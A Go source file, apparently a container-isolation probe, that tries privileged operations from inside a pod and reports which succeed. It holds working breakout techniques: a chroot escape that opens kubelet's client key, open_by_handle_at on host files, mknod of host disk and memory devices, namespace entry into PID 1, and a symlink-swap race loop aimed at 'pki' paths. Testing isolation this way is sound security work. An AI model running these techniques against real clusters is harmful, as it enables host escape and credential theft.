package main

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// identity is who a process is, as the kernel has it.
type identity struct {
	UID, EUID, GID, EGID int
	Groups               []int
	Effective, Permitted string // capabilities, in hex
	NoNewPrivs           string
}

// who prints the process's own identity, as JSON.
func who() error {
	groups, err := os.Getgroups()
	if err != nil {
		return err
	}
	status, err := os.ReadFile("/proc/thread-self/status")
	if err != nil {
		return err
	}
	fields := map[string]string{}
	for line := range strings.Lines(string(status)) {
		name, value, _ := strings.Cut(line, ":")
		fields[name] = strings.TrimSpace(value)
	}
	return json.NewEncoder(os.Stdout).Encode(identity{os.Getuid(), os.Geteuid(), os.Getgid(), os.Getegid(), groups,
		fields["CapEff"], fields["CapPrm"], fields["NoNewPrivs"]})
}

// execute runs each program as a child, as a shell would, by the name of tool who.
func execute(ctx context.Context, program string) string {
	out, err := exec.CommandContext(ctx, program, "who").CombinedOutput()
	if err != nil {
		return "not run: " + err.Error()
	}
	return strings.TrimSpace(string(out))
}

// write opens a file for writing and writes nothing: the kernel has decided by then.
func write(path string) string {
	matches, _ := filepath.Glob(path)
	if len(matches) > 0 {
		path = matches[0]
	}
	f, err := os.OpenFile(path, os.O_WRONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return "closed " + err.Error()
	}
	defer f.Close()
	return "open for writing"
}

// gains are what root of a machine may do and root of a pod may not. Should one
// succeed, nothing changes but for the process and the mounts of its container.
var gains = map[string]func(dir string) error{
	"mount-proc":   func(dir string) error { return unix.Mount("proc", dir, "proc", 0, "") },
	"mount-tmpfs":  func(dir string) error { return unix.Mount("tmpfs", dir, "tmpfs", 0, "") },
	"mount-cgroup": func(dir string) error { return unix.Mount("cgroup", dir, "cgroup", 0, "devices") },
	"mount-bind":   func(dir string) error { return unix.Mount("/", dir, "", unix.MS_BIND, "") },
	"remount-proc": func(string) error { return unix.Mount("", "/proc/sys", "", unix.MS_REMOUNT|unix.MS_BIND, "") },
	"unmount-proc": func(string) error { return unix.Unmount("/proc/sys", unix.MNT_DETACH) },
	"new-mounts":   func(string) error { return unix.Unshare(unix.CLONE_NEWNS) },
	"new-users": func(string) error { // not by unshare: that is for processes of one thread
		cmd := exec.Command("/proc/self/exe", "who")
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}
		return cmd.Run()
	},
	"new-cgroups":   func(string) error { return unix.Unshare(unix.CLONE_NEWCGROUP) },
	"enter-mounts":  func(string) error { return enter("/proc/1/ns/mnt", unix.CLONE_NEWNS) },
	"enter-network": func(string) error { return enter("/proc/1/ns/net", unix.CLONE_NEWNET) },
	// A handle opens a file of a file system whatever the path to it.
	"file-handle": func(string) error {
		const ofMachine = "/etc/hostname" // kubelet's file, on the machine's disk
		handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, ofMachine, 0)
		if err != nil {
			return err
		}
		mount, err := unix.Open(ofMachine, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		fd, err := unix.OpenByHandleAt(mount, handle, unix.O_RDONLY)
		if err == nil {
			unix.Close(fd)
		}
		return err
	},
	"kernel-log": func(string) error {
		_, err := unix.Klogctl(unix.SYSLOG_ACTION_READ_ALL, make([]byte, 4096))
		return err
	},
	"kernel-module": func(string) error { return unix.InitModule([]byte("no module"), "") },
	"bpf": func(string) error {
		// A map of type array, with one entry of four bytes.
		attr := [32]uint32{2, 4, 4, 1}
		_, _, errno := unix.Syscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr[0])), unsafe.Sizeof(attr))
		return none(errno)
	},
	"performance-events": func(string) error {
		_, err := unix.PerfEventOpen(&unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}, -1, 0, -1, 0)
		return err
	},
	"ports": func(string) error {
		_, _, errno := unix.Syscall(unix.SYS_IOPL, 3, 0, 0)
		return none(errno)
	},
	"clock": func(string) error {
		var now unix.Timespec
		if err := unix.ClockGettime(unix.CLOCK_REALTIME, &now); err != nil {
			return err
		}
		return unix.ClockSettime(unix.CLOCK_REALTIME, &now)
	},
	"swap-off": func(string) error {
		name := []byte("/nosuch\x00")
		_, _, errno := unix.Syscall(unix.SYS_SWAPOFF, uintptr(unsafe.Pointer(&name[0])), 0, 0)
		return none(errno)
	},
	"memory-device": func(dir string) error { return device(dir, unix.S_IFCHR, 1, 1) },
	"port-device":   func(dir string) error { return device(dir, unix.S_IFCHR, 1, 4) },
	"log-device":    func(dir string) error { return device(dir, unix.S_IFCHR, 1, 11) },
	"fuse-device":   func(dir string) error { return device(dir, unix.S_IFCHR, 10, 229) },
	"loop-device":   func(dir string) error { return device(dir, unix.S_IFBLK, 7, 0) },
	"disk-sda":      func(dir string) error { return device(dir, unix.S_IFBLK, 8, 0) },
	"disk-vda":      func(dir string) error { return device(dir, unix.S_IFBLK, 254, 0) },
	"disk-root":     rootDisk,
	// Out of a root that one is beside of: a folder that is open stays open.
	"chroot": func(dir string) error {
		out, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		if err := unix.Chroot(dir); err != nil {
			return err
		}
		if err := unix.Fchdir(out); err != nil {
			return err
		}
		for range 64 {
			if err := unix.Chdir(".."); err != nil {
				return err
			}
		}
		f, err := os.Open("etc/multipaas/pki/kubelet-client.key")
		if err == nil {
			f.Close()
		}
		return err
	},
}

func none(errno syscall.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

func enter(file string, kind int) error {
	fd, err := unix.Open(file, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	return unix.Setns(fd, kind)
}

// device makes a device node and opens it.
func device(dir string, kind uint32, major, minor uint32) error {
	name := filepath.Join(dir, "node")
	if err := unix.Mknod(name, kind|0o600, int(unix.Mkdev(major, minor))); err != nil {
		return err
	}
	defer os.Remove(name)
	fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// rootDisk opens the device of the machine's disk, which kubelet's files are on.
func rootDisk(dir string) error {
	var st unix.Stat_t
	if err := unix.Stat("/etc/hostname", &st); err != nil {
		return err
	}
	return device(dir, unix.S_IFBLK, unix.Major(st.Dev), unix.Minor(st.Dev))
}

// gainAll makes each try in a process of its own, since some change who tries. It
// runs itself again by the path it was started by: a file's mode and capabilities
// count for each of them.
func gainAll(ctx context.Context, names []string) error {
	if len(names) == 1 {
		return gain(names[0])
	}
	for _, name := range slices.Sorted(maps.Keys(gains)) {
		out, err := exec.CommandContext(ctx, os.Args[0], "gain", name).CombinedOutput()
		if err != nil {
			// By a signal, most likely: what it did was not allowed.
			out = fmt.Appendf(nil, "%s closed it ended with %v: %s\n", name, err, strings.Join(strings.Fields(string(out)), " "))
		}
		if _, err := os.Stdout.Write(out); err != nil {
			return err
		}
	}
	return nil
}

func gain(name string) error {
	try, ok := gains[name]
	if !ok {
		return fmt.Errorf("unknown gain %q", name)
	}
	var dir string
	var err error
	for _, below := range []string{"/", "/room", "/dev/shm"} {
		if dir, err = os.MkdirTemp(below, "gain-"); err == nil {
			break
		}
	}
	if err != nil {
		return err
	}
	runtime.LockOSThread() // what it changes is the thread's
	if err = try(dir); err != nil {
		fmt.Println(name, "closed", err)
	} else {
		fmt.Println(name, "open")
	}
	return nil
}

// swap has folders and links change places without rest, by one step each, so that
// nobody ever sees neither. Pairs are FOLDER=TARGET: the folder and the link to
// TARGET beside it. It prints the number of changes each second.
func swap(ctx context.Context, pairs []string) error {
	var folders []string
	for _, p := range pairs {
		folder, target, _ := strings.Cut(p, "=")
		if err := os.MkdirAll(filepath.Join(folder, "pki"), 0o755); err != nil {
			return err
		}
		for _, own := range []string{folder + "/own", folder + "/pki/own"} {
			if err := os.WriteFile(own, []byte("own"), 0o644); err != nil {
				return err
			}
		}
		if err := os.Symlink(target, folder+"-link"); err != nil {
			return err
		}
		folders = append(folders, folder)
	}
	tell := time.NewTicker(time.Second)
	defer tell.Stop()
	for n := 0; ; n++ {
		for _, f := range folders {
			if err := unix.Renameat2(unix.AT_FDCWD, f, unix.AT_FDCWD, f+"-link", unix.RENAME_EXCHANGE); err != nil {
				return err
			}
		}
		// Folders are there for longer than links, and nobody can know for how long.
		most := 600 * time.Microsecond
		if n%2 == 0 {
			most = 150 * time.Microsecond
		}
		for end := time.Now().Add(rand.N(most)); time.Now().Before(end); { // a timer is not that exact
		}
		select {
		case <-ctx.Done():
			return nil
		case <-tell.C:
			fmt.Println("swapped", n)
		default:
		}
	}
}

// link makes symbolic links NAME=TARGET; a name without a target is made as a
// folder with the file "own" in it.
func link(names []string) error {
	for _, n := range names {
		name, target, linked := strings.Cut(n, "=")
		var err error
		if linked {
			err = os.Symlink(target, name)
		} else if err = os.MkdirAll(name, 0o755); err == nil {
			err = os.WriteFile(filepath.Join(name, "own"), []byte("own"), 0o644)
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// get asks a URL, whoever answers, and returns the status and the beginning of
// the body.
func get(ctx context.Context, url string) string {
	client := &http.Client{Timeout: patience, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		Transport: &http.Transport{DisableKeepAlives: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return "none " + err.Error()
	}
	resp, err := client.Do(req)
	if err != nil {
		return "none " + err.Error()
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 200))
	if err != nil {
		return "none " + err.Error()
	}
	return fmt.Sprintf("%d %s", resp.StatusCode, strings.Join(strings.Fields(string(body)), " "))
}

// say sends bytes over TCP as they are and returns the beginning of what is answered
// until the other side ends the connection, or falls silent.
func say(ctx context.Context, address, escaped string) string {
	request, err := url.QueryUnescape(escaped)
	if err != nil {
		return "none " + err.Error()
	}
	d := net.Dialer{Timeout: patience}
	conn, err := d.DialContext(ctx, "tcp", address)
	if err != nil {
		return "none " + err.Error()
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(3 * patience))
	if _, err := io.WriteString(conn, request); err != nil {
		return "none " + err.Error()
	}
	answer, err := io.ReadAll(io.LimitReader(conn, 4096))
	if len(answer) == 0 {
		return fmt.Sprintf("none %v", err)
	}
	return strings.Join(strings.Fields(string(answer)), " ")
}
